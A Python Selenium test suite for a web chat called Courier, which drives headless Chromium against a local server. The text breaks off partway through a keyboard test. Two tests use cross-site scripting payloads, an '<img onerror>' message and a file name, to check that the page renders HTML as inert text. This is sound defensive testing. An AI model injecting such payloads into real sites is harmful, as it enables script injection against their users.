#!/usr/bin/env python3
"""The web chat in a real Chromium (Debian's, driven by Selenium through Debian's chromedriver).

A real `courier serve` on loopback (SQLite in a temporary folder), real pages at its `/`, and the `courier` CLI beside
them as a second kind of client. Every wait is for a condition, with a generous limit, never a fixed sleep.

Run by scripts/test after the Swift tests:  python3 Tests/Web/test_web.py
  COURIER_BIN          the courier binary (default .build/debug/courier)
  COURIER_SCREENSHOTS  where screenshots go (default: a new temporary folder); the folder is printed
  CHROMIUM, CHROMEDRIVER  the browser and its driver (default /usr/bin/chromium, /usr/bin/chromedriver)
  COURIER_WEB_ROOT     serve the page from this folder (`serve --web-root`), for working on Web/ without a rebuild
"""

import hashlib
import http.server
import json
import os
import re
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import unittest
import urllib.request
import zlib

from selenium import webdriver
from selenium.common.exceptions import (ElementNotInteractableException, NoAlertPresentException,
                                        StaleElementReferenceException)
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
COURIER = os.path.abspath(os.environ.get("COURIER_BIN", os.path.join(ROOT, ".build/debug/courier")))
CHROMIUM = os.environ.get("CHROMIUM", "/usr/bin/chromium")
CHROMEDRIVER = os.environ.get("CHROMEDRIVER", "/usr/bin/chromedriver")
LIMIT = 60.0  # seconds: a condition not met by then fails the test
PASSWORD = "correct horse 马"


def wait_until(condition, what, limit=LIMIT):
    deadline = time.monotonic() + limit
    last_error = None
    while time.monotonic() < deadline:
        try:
            value = condition()
            if value:
                return value
        except (StaleElementReferenceException, AssertionError) as error:
            last_error = error
        time.sleep(0.05)
    raise AssertionError(f"timed out waiting for {what}" + (f" ({last_error})" if last_error else ""))


def png(width, height):
    """A real PNG: a colour gradient."""
    rows = b"".join(b"\x00" + bytes(v for x in range(width) for v in (x * 4 % 256, y * 5 % 256, 160))
                    for y in range(height))

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


# The texts on the page whose colour stands at less than 4.5:1 against the background behind them (the first
# opaque one up the tree; a background image counts as unknown and is skipped).
CONTRAST_CHECK = """
const parse = (c) => (c.match(/[\\d.]+/g) || []).map(Number);
const luminance = ([r, g, b]) => [r, g, b].map((v) => { v /= 255; return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; })
  .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
const low = [];
for (const element of document.querySelectorAll("body *")) {
  const text = [...element.childNodes].filter((n) => n.nodeType === 3).map((n) => n.textContent).join("").trim();
  if (!text || !element.checkVisibility?.() || element.closest("[aria-hidden=true]")) continue;
  const style = getComputedStyle(element);
  let back = null;
  for (let e = element; e; e = e.parentElement) {
    const s = getComputedStyle(e);
    if (s.backgroundImage !== "none") { back = "image"; break; }
    const c = parse(s.backgroundColor);
    if (c.length === 3 || (c.length === 4 && c[3] === 1)) { back = c.slice(0, 3); break; }
  }
  if (back === "image") continue;
  const fore = parse(style.color).slice(0, 3);
  const [a, b] = [luminance(fore), luminance(back || [255, 255, 255])].sort((x, y) => y - x);
  const ratio = (a + 0.05) / (b + 0.05);
  if (ratio < 4.5) low.push(`${element.tagName}.${element.className} "${text.slice(0, 20)}" ${ratio.toFixed(2)}`);
}
return low;
"""


def media_ticket(base, token, sha256):
    """A ticket for one media file (`POST /media/<sha256>/ticket`, the token in the header)."""
    import urllib.request
    request = urllib.request.Request(f"{base}/media/{sha256}/ticket", method="POST",
                                     headers={"Authorization": f"Bearer {token}"})
    with urllib.request.urlopen(request) as answer:
        return json.loads(answer.read())["ticket"]


class Server:
    """`courier serve` on loopback, restartable on the same ports and data."""

    def __init__(self, folder):
        self.data = os.path.join(folder, "data")
        self.home = os.path.join(folder, "home")
        os.makedirs(self.home, exist_ok=True)
        self.ports = ("0", "0", "0")
        self.process = None

    @property
    def env(self):
        return dict(os.environ, HOME=self.home, XDG_CONFIG_HOME=os.path.join(self.home, "config"),
                    XDG_DATA_HOME=os.path.join(self.home, "share"))

    def start(self):
        native, compat, http_port = self.ports
        self.process = subprocess.Popen(
            [COURIER, "serve", "--data", self.data, "--port", native, "--compat-port", compat, "--http-port", http_port,
             "--registration", "invite", "--log-level", "warning",
             *(["--web-root", os.environ["COURIER_WEB_ROOT"]] if os.environ.get("COURIER_WEB_ROOT") else [])],
            stdout=subprocess.PIPE, stderr=sys.stderr, text=True, env=self.env)
        line = self.process.stdout.readline()
        match = re.search(r"native [\d.]+:(\d+), compat [\d.]+:(\d+), http [\d.]+:(\d+)", line)
        if not match:
            raise RuntimeError(f"courier serve did not start: {line!r}")
        self.ports = match.groups()
        self.base = f"http://127.0.0.1:{self.ports[2]}"
        threading.Thread(target=self.process.stdout.read, daemon=True).start()

    def stop(self):
        if self.process and self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
            self.process.wait(timeout=60)
        if self.process:
            self.process.stdout.close()
        self.process = None

    def kill(self):
        """SIGKILL: the server dies mid-write, with no goodbye to anyone."""
        self.process.kill()
        self.process.wait(timeout=60)
        self.process.stdout.close()
        self.process = None

    def cli(self, *arguments, stdin=None):
        server = ["--server", f"127.0.0.1:{self.ports[0]}"] if arguments[0] not in ("user", "invite", "bot") else []
        data = ["--data", self.data] if arguments[0] in ("user", "invite", "bot") else []
        done = subprocess.run([COURIER, *arguments, *server, *data], capture_output=True, text=True, env=self.env,
                              input=stdin, timeout=120)
        if done.returncode != 0:
            raise AssertionError(f"courier {' '.join(arguments)} failed: {done.stderr}")
        return done.stdout


class Page:
    """One browser with the chat open."""

    def __init__(self, base, width=1280, height=800, phone=False, arguments=()):
        options = webdriver.ChromeOptions()
        options.binary_location = CHROMIUM
        for argument in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                         f"--window-size={width},{height}", "--lang=en-US", "--force-device-scale-factor=1",
                         *arguments):
            options.add_argument(argument)
        self.driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=options)
        self.driver.set_page_load_timeout(LIMIT)
        if phone:
            # A window is never narrower than 500 pixels: a phone's viewport is emulated instead.
            self.driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride",
                                        {"width": width, "height": height, "deviceScaleFactor": 2, "mobile": True})
        self.base = base
        self.driver.get(base + "/")

    def quit(self):
        self.driver.quit()

    def find(self, css):
        return self.driver.find_element(By.CSS_SELECTOR, css)

    def read(self, css):
        """The text of the element, read again if the page redrew it meanwhile."""
        for _ in range(100):
            try:
                return self.find(css).text
            except StaleElementReferenceException:
                continue
        raise AssertionError(f"{css} kept being redrawn")

    def all(self, css):
        return self.driver.find_elements(By.CSS_SELECTOR, css)

    def visible(self, css):
        return wait_until(lambda: next((e for e in self.all(css) if e.is_displayed()), None), f"{css} shown")

    def js(self, script, *arguments):
        return self.driver.execute_script(script, *arguments)

    def log_in(self, user, password=PASSWORD):
        self.visible("#login-user").send_keys(user)
        self.find("#login-password").send_keys(password + Keys.ENTER)
        self.wait_online()

    def wait_online(self):
        wait_until(lambda: self.find("#connection-text").text == "Online", "the page online")

    def retry(self):
        """Connects now instead of at the end of the backoff."""
        self.js("document.getElementById('retry').click()")

    def click(self, css):
        """Clicks the element shown, again if the page redrew it between finding and clicking."""
        def clicked():
            self.visible(css).click()
            return True
        wait_until(clicked, f"a click on {css}")

    def conversation(self, key):
        """Opens a conversation from the list."""
        self.click(f'#conversations [data-key="{key}"]')
        wait_until(lambda: self.find("#chat-bar").is_displayed(), "the conversation open")

    def type(self, text):
        """Puts text in the draft as typing would (characters outside the BMP, which chromedriver cannot type,
        through the input event a browser fires)."""
        draft = self.find("#draft")
        if all(ord(c) < 0x10000 for c in text):
            draft.send_keys(text)
        else:
            self.js("const d = arguments[0]; d.value += arguments[1]; d.dispatchEvent(new Event('input'));", draft, text)
        return draft

    def send(self, text):
        self.type(text).send_keys(Keys.ENTER)

    def texts(self):
        return self.js("return [...document.querySelectorAll('#messages .message .text')].map(e => e.innerText)")

    def message(self, text):
        """The message whose text is `text`, once it is shown."""
        def find():
            for element in self.all("#messages .message"):
                texts = element.find_elements(By.CSS_SELECTOR, ".text")
                if texts and texts[0].text == text:
                    return element
            return None
        return wait_until(find, f"the message {text!r}")

    def open_menu(self, text):
        """Opens the ⋯ menu of the message, again if the page redrew it between finding and clicking."""
        def opened():
            self.message(text).find_element(By.CSS_SELECTOR, ".actions").click()
            return True
        wait_until(opened, f"the menu of {text!r}")
        self.visible("#menu")

    def press(self, *keys, shift=False):
        """Keys to whatever has the focus, as a keyboard sends them."""
        from selenium.webdriver.common.action_chains import ActionChains
        chain = ActionChains(self.driver)
        if shift:
            chain.key_down(Keys.SHIFT)
        chain.send_keys(*keys)
        if shift:
            chain.key_up(Keys.SHIFT)
        chain.perform()

    def actions(self, text, action):
        self.open_menu(text)
        assert "null" not in self.read("#menu"), self.read("#menu")
        self.visible(f"#menu [data-action={action}]").click()

    def shot(self, folder, name):
        path = os.path.join(folder, name + ".png")
        self.driver.save_screenshot(path)
        return path


class DevTools:
    """Chromium's DevTools protocol beside chromedriver (its own connection to a target, for the events and targets
    Selenium's execute_cdp_cmd cannot reach: the service worker's registration, the worker itself)."""

    def __init__(self, driver, target_type, url_prefix=""):
        import websocket
        address = driver.capabilities["goog:chromeOptions"]["debuggerAddress"]
        def find():
            with urllib.request.urlopen(f"http://{address}/json/list") as answer:
                targets = json.loads(answer.read())
            return next((t for t in targets if t["type"] == target_type and t["url"].startswith(url_prefix)), None)
        target = wait_until(find, f"a {target_type} target")
        self.socket = websocket.create_connection(target["webSocketDebuggerUrl"], timeout=LIMIT,
                                                  suppress_origin=True)
        self.next_id = 0
        self.events = []

    def call(self, method, **params):
        self.next_id += 1
        self.socket.send(json.dumps({"id": self.next_id, "method": method, "params": params}))
        while True:
            message = json.loads(self.socket.recv())
            if message.get("id") == self.next_id:
                if "error" in message:
                    raise AssertionError(f"{method}: {message['error']}")
                return message.get("result", {})
            self.events.append(message)

    def event(self, method, matching=lambda params: True):
        """The first event of `method` whose params match, waiting for it."""
        deadline = time.monotonic() + LIMIT
        while time.monotonic() < deadline:
            for message in self.events:
                if message.get("method") == method and matching(message["params"]):
                    return message["params"]
            self.events.append(json.loads(self.socket.recv()))
        raise AssertionError(f"no {method} event")

    def close(self):
        self.socket.close()


# The browser here reaches no push service: PushManager's subscribe is stood in for, with a subscription whose keys
# are made in the page (a P-256 key pair and a 16-byte secret) and whose endpoint goes nowhere.
STAND_IN_SUBSCRIBE = """
const b64 = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\\+/g, "-").replace(/\\//g, "_").replace(/=+$/, "");
const pair = await crypto.subtle.generateKey({ name: "ECDH", namedCurve: "P-256" }, true, ["deriveBits"]);
const p256dh = b64(await crypto.subtle.exportKey("raw", pair.publicKey));
const auth = b64(crypto.getRandomValues(new Uint8Array(16)));
const endpoint = "https://push.invalid/courier-web-test/" + auth;
let held = null;
PushManager.prototype.getSubscription = async function () { return held; };
PushManager.prototype.subscribe = async function (options) {
  held = { endpoint, options, toJSON: () => ({ endpoint, expirationTime: null, keys: { p256dh, auth } }),
           unsubscribe: async () => { held = null; return true; } };
  return held;
};
return endpoint;
"""


class WebChatTests(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.folder = tempfile.mkdtemp(prefix="courier-web-")
        cls.shots = os.environ.get("COURIER_SCREENSHOTS") or os.path.join(cls.folder, "screenshots")
        os.makedirs(cls.shots, exist_ok=True)
        print(f"web tests: screenshots in {cls.shots}", flush=True)
        cls.server = Server(cls.folder)
        for user in ("alice", "bob", "carol", "erin"):
            cls.server.cli("user", "add", user, "--password", PASSWORD)
        cls.server.start()
        cls.alice = Page(cls.server.base)
        cls.bob = Page(cls.server.base)
        cls.alice.log_in("alice")
        cls.bob.log_in("bob")

    @classmethod
    def tearDownClass(cls):
        for page in (cls.alice, cls.bob):
            page.quit()
        cls.server.stop()
        if not os.environ.get("COURIER_SCREENSHOTS"):
            # The screenshots stay for looking at; the server's data goes.
            shutil.rmtree(os.path.join(cls.folder, "data"), ignore_errors=True)

    def setUp(self):
        self.started = time.monotonic()

    def tearDown(self):
        print(f"({time.monotonic() - self.started:.1f} s) ", end="", flush=True)
        # A failed test leaves both pages' screenshots and consoles, to see what they showed.
        result = self._outcome.result
        if any(test is self for test, _ in result.failures + result.errors):
            for label, page in (("alice", self.alice), ("bob", self.bob)):
                try:
                    page.shot(self.shots, f"failed-{self._testMethodName}-{label}")
                    for entry in page.driver.get_log("browser"):
                        print(f"  {label} console: {entry['level']} {entry['message'][:400]}", flush=True)
                except Exception as error:  # the page may be gone
                    print(f"  {label}: {error}", flush=True)

    def fetch_media(self, page, sha256):
        """A media file's bytes, as the page's user fetches them (its token in a header)."""
        import urllib.request
        token = json.loads(page.js("return localStorage.getItem('courier.session')"))["token"]
        request = urllib.request.Request(f"{self.server.base}/media/{sha256}", headers={"Authorization": f"Bearer {token}"})
        with urllib.request.urlopen(request) as answer:
            return answer.read()

    def start_chat(self, page, user):
        page.find("#new-chat").click()
        page.visible('#dialog form[data-form=direct] input').send_keys(user + Keys.ENTER)
        wait_until(lambda: page.find("#chat-title").text != "" and not page.find("#dialog").is_displayed(),
                   "the chat open")

    def test_01_page_is_served_strictly(self):
        import urllib.request
        with urllib.request.urlopen(self.server.base + "/") as answer:
            policy = answer.headers["Content-Security-Policy"]
            self.assertIn(f"script-src 127.0.0.1:{self.server.ports[2]}/web/;", policy)
            self.assertNotIn("script-src 'self'", policy)
            self.assertNotIn("unsafe-inline", policy)
            self.assertEqual(answer.headers["X-Content-Type-Options"], "nosniff")
            etag = answer.headers["ETag"]
            html = answer.read().decode()
        self.assertNotRegex(html, r"<script(?![^>]*\bsrc=)", "no inline script")
        total = len(html.encode())
        # Everything the page loads: its own links, and every module they import, and those modules' imports.
        wanted = re.findall(r'(?:src|href)="(/web/[^"]+)"', html) + ["/web/sw.js"]
        seen = set()
        while wanted:
            asset = wanted.pop()
            if asset in seen:
                continue
            seen.add(asset)
            with urllib.request.urlopen(self.server.base + asset) as answer:
                body = answer.read()
            total += len(body)
            if asset.endswith(".js"):
                wanted += ["/web/" + name for name in re.findall(r'from "\./([\w-]+\.js)"', body.decode())]
        self.assertGreater(len([asset for asset in seen if asset.endswith(".js")]), 10, "the modules followed")
        self.assertLess(total, 200 * 1024, "the whole page under 200 KB")
        request = urllib.request.Request(self.server.base + "/", headers={"If-None-Match": etag})
        with self.assertRaises(urllib.error.HTTPError) as caught:
            urllib.request.urlopen(request)
        self.assertEqual(caught.exception.code, 304)
        caught.exception.close()
        # No script error on load, in either browser.
        for page in (self.alice, self.bob):
            errors = [e for e in page.driver.get_log("browser") if e["level"] == "SEVERE"]
            self.assertEqual(errors, [])

    def test_02_two_browsers_chat(self):
        alice, bob = self.alice, self.bob
        self.start_chat(alice, "bob")
        alice.send("你好 bob 👋 مرحبا")
        bob.visible('#conversations [data-key="u:alice"] .badge')
        self.assertEqual(bob.read('#conversations [data-key="u:alice"] .badge'), "1")
        self.assertIn("你好 bob", bob.read('#conversations [data-key="u:alice"] .preview'))
        self.assertEqual(bob.read('#conversations [data-key="u:alice"] .time'), "just now")
        bob.conversation("u:alice")
        bob.message("你好 bob 👋 مرحبا")
        # Read marks: alice's message goes from ✓ to read once bob has it open.
        wait_until(lambda: alice.message("你好 bob 👋 مرحبا").find_element(By.CSS_SELECTOR, ".status")
                   .get_attribute("aria-label") == "read", "alice's message read")
        self.assertEqual(bob.all('#conversations [data-key="u:alice"] .badge'), [])
        # Typing, then presence.
        bob.type("正在输入")
        wait_until(lambda: "typing" in alice.read("#chat-subtitle"), "alice seeing bob type")
        bob.find("#draft").send_keys(Keys.ENTER)
        alice.message("正在输入")
        wait_until(lambda: "online" in alice.read("#chat-subtitle"), "bob online")
        # Right-to-left text reads right to left in its own paragraph.
        bob.send("مرحبا بالعالم")
        rtl = alice.message("مرحبا بالعالم").find_element(By.CSS_SELECTOR, ".text")
        self.assertEqual(alice.js("return getComputedStyle(arguments[0]).direction", rtl), "rtl")

    def test_03_chat_with_the_command_line(self):
        self.server.cli("send", "--as", "carol", "--password", PASSWORD, "--to", "alice", "from the terminal 终端")
        self.alice.conversation("u:carol")
        self.alice.message("from the terminal 终端")
        self.alice.send("answered from the page 页面")
        def answered():
            lines = self.server.cli("history", "--as", "carol", "--password", PASSWORD, "--with", "alice", "--json")
            return [json.loads(line) for line in lines.splitlines() if "answered from the page" in line]
        found = wait_until(answered, "the page's answer in carol's history")
        self.assertEqual(len(found), 1)

    def test_03b_a_bot_is_marked(self):
        """A bot (courier bot create) writes over the HTTP API; the page marks it "bot" in the list and the header."""
        token = self.server.cli("bot", "create", "helperbot", "--owner", "alice").strip()
        request = urllib.request.Request(
            self.server.base + "/api/v1/messages", method="POST",
            data=json.dumps({"to": "alice", "text": "我是机器人 🤖"}).encode(),
            headers={"Authorization": "Bearer " + token, "Content-Type": "application/json"})
        with urllib.request.urlopen(request, timeout=60) as answer:
            self.assertEqual(answer.status, 201)
        self.alice.visible('#conversations [data-key="u:helperbot"] .bot-badge')
        self.alice.conversation("u:helperbot")
        self.alice.message("我是机器人 🤖")
        wait_until(lambda: self.alice.all("#chat-title .bot-badge"), "the header's bot mark")
        self.assertEqual(self.alice.read("#chat-title .bot-badge"), "bot")
        # A person is never marked.
        self.assertEqual(self.alice.all('#conversations [data-key="u:bob"] .bot-badge'), [])

    def test_03c_unread_in_the_tab_and_you_in_previews(self):
        """The tab's title counts what is unread (muted conversations aside); a preview of one's own last message in
        a direct chat says "You:"."""
        alice = self.alice
        self.start_chat(alice, "bob")
        wait_until(lambda: not alice.js("return document.title").startswith("("), "nothing unread in the title")
        for text in ("第一条 from carol", "第二条 from carol"):
            self.server.cli("send", "--as", "carol", "--password", PASSWORD, "--to", "alice", text)
        wait_until(lambda: alice.js("return document.title").startswith("(2) "), "two unread in the tab's title")
        self.assertIn("· Courier", alice.js("return document.title"))
        self.assertEqual(alice.read('#conversations [data-key="u:carol"] .preview'), "第二条 from carol")
        alice.conversation("u:carol")
        wait_until(lambda: not alice.js("return document.title").startswith("("), "read: no count in the title")
        alice.send("收到 👍")
        wait_until(lambda: alice.read('#conversations [data-key="u:carol"] .preview') == "You: 收到 👍",
                   "You: before one's own last message")

    def test_04_html_is_text(self):
        attack = '<img src=x onerror="document.title=\'owned\'"><b>bold</b>'
        self.bob.conversation("u:alice")
        self.bob.send(attack)
        self.alice.conversation("u:bob")
        message = self.alice.message(attack)
        self.assertEqual(message.find_elements(By.CSS_SELECTOR, ".bubble img, .bubble b"), [])
        self.assertNotEqual(self.alice.driver.title, "owned")
        with self.assertRaises(NoAlertPresentException):
            self.alice.driver.switch_to.alert.text

    def test_05_input_method_enter_does_not_send(self):
        alice = self.alice
        alice.conversation("u:bob")
        draft = alice.type("nihao")
        alice.js("arguments[0].dispatchEvent(new CompositionEvent('compositionstart', {data: ''}))", draft)
        draft.send_keys(Keys.ENTER)  # the Enter that confirms the composition
        self.assertEqual(draft.get_attribute("value").strip(), "nihao", "not sent while composing")
        # The signs a browser's own composing keydown carries are each enough: isComposing, and keyCode 229.
        for init in ("{key: 'Enter', isComposing: true, bubbles: true}", "{key: 'Enter', keyCode: 229, bubbles: true}"):
            alice.js(f"arguments[0].dispatchEvent(new KeyboardEvent('keydown', {init}))", draft)
            self.assertEqual(draft.get_attribute("value").strip(), "nihao", init)
        alice.js("const d = arguments[0]; d.value = '你好'; "
                 "d.dispatchEvent(new CompositionEvent('compositionend', {data: '你好'})); "
                 "d.dispatchEvent(new Event('input'));", draft)
        # The page stays composing until the task after compositionend (Safari's order); then Enter is Enter again.
        wait_until(lambda: draft.get_attribute("data-composing") is None, "the composition over")
        # Shift+Enter is a new line.
        draft.send_keys(Keys.SHIFT + Keys.ENTER + Keys.SHIFT + "世界")
        self.assertEqual(draft.get_attribute("value"), "你好\n世界")
        draft.send_keys(Keys.ENTER)
        wait_until(lambda: draft.get_attribute("value") == "", "the draft sent")
        self.bob.conversation("u:alice")
        self.assertEqual(self.bob.message("你好\n世界").text.count("世界"), 1)
        self.assertNotIn("nihao", " ".join(self.bob.texts()))

    def test_06_send_while_the_server_is_down(self):
        alice = self.alice
        alice.conversation("u:bob")
        self.server.stop()
        try:
            wait_until(lambda: "Offline" in alice.find("#connection-text").text, "the page offline")
            self.shot_both("offline")
            alice.send("written while the server was down 离线")
            pending = alice.message("written while the server was down 离线")
            self.assertEqual(pending.find_element(By.CSS_SELECTOR, ".status").get_attribute("aria-label"), "sending")
            # It waits in the browser's storage, where a reload (of a page the browser kept) would find it.
            self.assertIn("written while the server was down", alice.js("return localStorage.getItem('courier.outbox.alice')"))
        finally:
            self.server.start()
        # Alice's page by its "Retry now" button, Bob's by itself (its backoff).
        alice.retry()
        alice.wait_online()
        self.bob.wait_online()
        self.bob.conversation("u:alice")
        self.bob.message("written while the server was down 离线")
        lines = self.server.cli("history", "--as", "bob", "--password", PASSWORD, "--with", "alice", "--json")
        self.assertEqual(sum("written while the server was down" in line for line in lines.splitlines()), 1)
        alice.conversation("u:bob")
        wait_until(lambda: alice.message("written while the server was down 离线").find_element(
            By.CSS_SELECTOR, ".status").get_attribute("aria-label") in ("sent", "delivered", "read"), "acknowledged")

    def test_07_image_upload_shows_inline(self):
        path = os.path.join(self.folder, "彩虹.png")
        with open(path, "wb") as file:
            file.write(png(64, 48))
        self.alice.conversation("u:bob")
        self.alice.find("#file").send_keys(path)
        self.bob.conversation("u:alice")
        image = wait_until(lambda: next((i for i in self.bob.all("#messages img.image")
                                          if self.bob.js("return arguments[0].naturalWidth", i) == 64), None),
                           "the picture shown to bob")
        self.assertEqual(self.bob.js("return arguments[0].naturalHeight", image), 48)
        wait_until(lambda: not self.alice.all("#uploads .upload"), "the upload's row gone")

    def test_07b_video_files_cancel_and_resume(self):
        alice, bob = self.alice, self.bob
        alice.conversation("u:bob")
        bob.conversation("u:alice")
        # A video plays through /media's byte ranges, from its start, before the rest has come.
        video = os.path.join(self.folder, "clip 视频.webm")
        subprocess.run(["ffmpeg", "-loglevel", "error", "-f", "lavfi", "-i", "testsrc=duration=20:size=320x240:rate=25",
                        "-c:v", "libvpx", "-b:v", "400k", "-y", video], check=True)
        alice.find("#file").send_keys(video)
        player = wait_until(lambda: bob.all("#messages video"), "the video at bob")[-1]
        bob.js("arguments[0].muted = true; arguments[0].play();", player)
        wait_until(lambda: bob.js("return arguments[0].currentTime", player) > 0.5, "the video playing")
        # Its URL carries a ticket for that one file, never bob's token.
        token = json.loads(bob.js("return localStorage.getItem('courier.session')"))["token"]
        ticketed = r"/media/[0-9a-f]{64}\?ticket=\d+\.\d+\.[A-Za-z0-9_-]{43}$"
        source = bob.js("return arguments[0].currentSrc", player)
        self.assertRegex(source, ticketed)
        self.assertNotIn(token, source)
        # A ticket that no longer opens the file (as one past its end, the player seeking long after): the page asks
        # for another, and the video plays again.
        broken = bob.js("const v = arguments[0]; v.src = v.currentSrc.replace(/ticket=\\d+/, 'ticket=1'); "
                        "return v.src", player)
        wait_until(lambda: bob.js("return arguments[0].currentSrc", player) not in ("", broken)
                   and bob.js("return arguments[0].readyState", player) >= 1, "the player given a new ticket")
        self.assertRegex(bob.js("return arguments[0].currentSrc", player), ticketed)
        bob.js("arguments[0].play();", player)
        wait_until(lambda: bob.js("return arguments[0].currentTime", player) > 0.5, "the video playing again")
        # Another file is a download, of the same bytes.
        # (Its name is text, whatever it holds.)
        name = "<img src=x onerror=alert(1)> 笔记.txt"
        document = os.path.join(self.folder, name)
        with open(document, "w", encoding="utf-8") as file:
            file.write("文件内容 file contents\n")
        alice.find("#file").send_keys(document)
        link = wait_until(lambda: [a for a in bob.all("#messages a.file")
                                   if a.get_attribute("download") == name], "the file at bob")[0]
        self.assertIn(name, link.text)
        self.assertEqual(link.find_elements(By.TAG_NAME, "img"), [])
        self.assertEqual(link.get_attribute("href"), self.server.base + "/#", "no token in a link")
        self.assertEqual(self.fetch_media(bob, link.get_attribute("data-sha256")), "文件内容 file contents\n".encode())
        # A cancelled upload sends nothing.
        big = os.path.join(self.folder, "cancelled.bin")
        with open(big, "wb") as file:
            file.write(os.urandom(48 << 20))
        alice.find("#file").send_keys(big)
        row = '#uploads .upload[data-name="cancelled.bin"]'
        wait_until(lambda: alice.find(row).get_attribute("data-state") == "sending", "the upload sending")
        alice.click(row + " button")
        wait_until(lambda: not alice.all(row), "the cancelled upload gone")
        alice.send("after the cancel")
        bob.message("after the cancel")
        self.assertFalse([a for a in bob.all("#messages a.file") if a.get_attribute("download") == "cancelled.bin"])
        # An upload cut by a dropped connection goes on from where the server stands.
        resumed = os.path.join(self.folder, "resumed.bin")
        with open(resumed, "wb") as file:
            file.write(os.urandom(48 << 20))
        alice.find("#file").send_keys(resumed)
        row = '#uploads .upload[data-name="resumed.bin"]'
        wait_until(lambda: float(alice.find(row + " progress").get_attribute("value")) > 0.3, "a third sent")
        self.server.kill()
        try:
            wait_until(lambda: alice.find(row).get_attribute("data-state") == "waiting", "the upload waiting")
        finally:
            self.server.start()
        alice.retry()
        offset = wait_until(lambda: alice.find(row).get_attribute("data-resumed-from"), "the upload resumed")
        self.assertGreater(int(offset), 0)
        link = wait_until(lambda: [a for a in bob.all("#messages a.file")
                                   if a.get_attribute("download") == "resumed.bin"], "the resumed file at bob")[0]
        with open(resumed, "rb") as file:
            self.assertEqual(self.fetch_media(bob, link.get_attribute("data-sha256")), file.read())

    def test_08_history_pages(self):
        carol = Page(self.server.base)
        try:
            carol.log_in("carol")
            carol.conversation("u:alice")
            for i in range(70):
                carol.type(f"page {i:02d}").send_keys(Keys.ENTER)
            wait_until(lambda: len(carol.all("#messages .message.pending")) == 0, "carol's sends acknowledged")
        finally:
            carol.quit()
        alice = self.alice
        alice.driver.refresh()
        alice.wait_online()
        alice.conversation("u:carol")
        alice.message("page 69")
        wait_until(lambda: "page 00" not in alice.texts() and len(alice.texts()) <= 35, "one page loaded")
        # Older pages, by the button (scrolling to the top loads them too).
        def older_or_done():
            if "page 00" in alice.texts():
                return True
            for button in alice.all("#messages button.older"):
                try:
                    button.click()
                except (StaleElementReferenceException, ElementNotInteractableException):
                    pass
            return False
        wait_until(older_or_done, "every page loaded")
        texts = [t for t in alice.texts() if t.startswith("page ")]
        self.assertEqual(texts, [f"page {i:02d}" for i in range(70)])
        self.assertTrue(alice.all("#messages .start"))
        # A search hit pages older messages in until it reaches the one it names, on a page freshly loaded.
        alice.driver.refresh()
        alice.wait_online()
        search = alice.visible("#search")
        search.send_keys("page 03" + Keys.ENTER)
        alice.click('#search-results .hit[data-key="u:carol"]')
        wait_until(lambda: alice.js("return document.querySelector('#messages .message.flash .text')?.innerText")
                   == "page 03", "the jump to an older page's message")
        search.clear()
        search.send_keys(Keys.ENTER)

    def test_09_reply_edit_react_recall_search(self):
        alice, bob = self.alice, self.bob
        alice.conversation("u:bob")
        alice.send("a banana for 读书会")
        alice.actions("a banana for 读书会", "reply")
        # The page draws on its next frame: waited for, not read at once.
        wait_until(lambda: "Replying to" in alice.read("#composer-context-text"), "the reply's context shown")
        alice.send("the reply 回复")
        bob.conversation("u:alice")
        quote = bob.message("the reply 回复").find_element(By.CSS_SELECTOR, ".quote")
        self.assertIn("a banana for 读书会", quote.text)
        # Edit.
        alice.actions("the reply 回复", "edit")
        draft = alice.find("#draft")
        draft.clear()
        alice.send("the edited reply 改过")
        edited = bob.message("the edited reply 改过")
        self.assertIn("edited", edited.text)
        # React.
        bob.open_menu("the edited reply 改过")
        bob.visible('#menu button[data-key="👍"]').click()
        chip = wait_until(lambda: alice.message("the edited reply 改过").find_elements(By.CSS_SELECTOR, ".reaction"),
                          "the reaction at alice")[0]
        self.assertEqual(chip.text, "👍 1")
        # Recall.
        alice.send("to be recalled")
        alice.actions("to be recalled", "recall")
        wait_until(lambda: "This message was recalled" in bob.texts(), "the recall at bob")
        # Search, in Chinese and in English, and the jump to a hit.
        for query, expected in (("读书会", "a banana for 读书会"), ("BANANA", "a banana for 读书会")):
            search = alice.find("#search")
            search.clear()
            search.send_keys(query + Keys.ENTER)
            hit = alice.visible("#search-results .hit")
            self.assertNotIn("null", alice.read("#search-results"))
            self.assertIn(query.lower(), hit.find_element(By.CSS_SELECTOR, "mark").text.lower())
        hit.click()
        wait_until(lambda: alice.all("#messages .message.flash"), "the jump to the hit")
        # Read again should the page redraw between finding and reading (a receipt or a presence change).
        self.assertEqual(alice.read("#messages .message.flash .text"), expected)
        self.shot_both("search", only=alice)
        search.clear()
        search.send_keys(Keys.ENTER)

    def test_09b_keyboard_alone(self):
        alice = self.alice
        alice.conversation("u:bob")
        alice.find("#draft").click()
        active = lambda: alice.driver.switch_to.active_element
        # The focused element's attribute read in one step: a receipt or a presence change may redraw the messages
        # between finding the element and reading it (the page puts the focus back on the new one).
        focused = lambda name: alice.driver.execute_script(
            "return document.activeElement?.getAttribute(arguments[0]) ?? ''", name)
        # Back from the draft to a message's actions button, by Tab alone.
        for _ in range(12):
            alice.press(Keys.TAB, shift=True)
            if "actions" in focused("class"):
                break
        self.assertIn("actions", focused("class"))
        alice.press(Keys.ENTER)
        wait_until(lambda: focused("data-action") == "reply", "the menu open on Reply")
        alice.press(Keys.ARROW_DOWN)
        self.assertNotEqual(focused("data-action"), "reply", "arrows move in the menu")
        # Escape closes the menu, and only the menu.
        alice.press(Keys.ESCAPE)
